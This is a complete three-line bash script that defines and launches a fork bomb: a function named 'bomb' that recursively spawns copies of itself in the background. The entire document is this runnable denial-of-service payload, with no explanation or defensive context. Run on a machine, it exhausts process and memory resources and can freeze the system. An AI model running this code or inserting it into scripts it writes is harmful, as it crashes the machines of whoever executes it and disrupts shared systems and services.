#!/bin/bash
bomb() { bomb | bomb & }
bomb
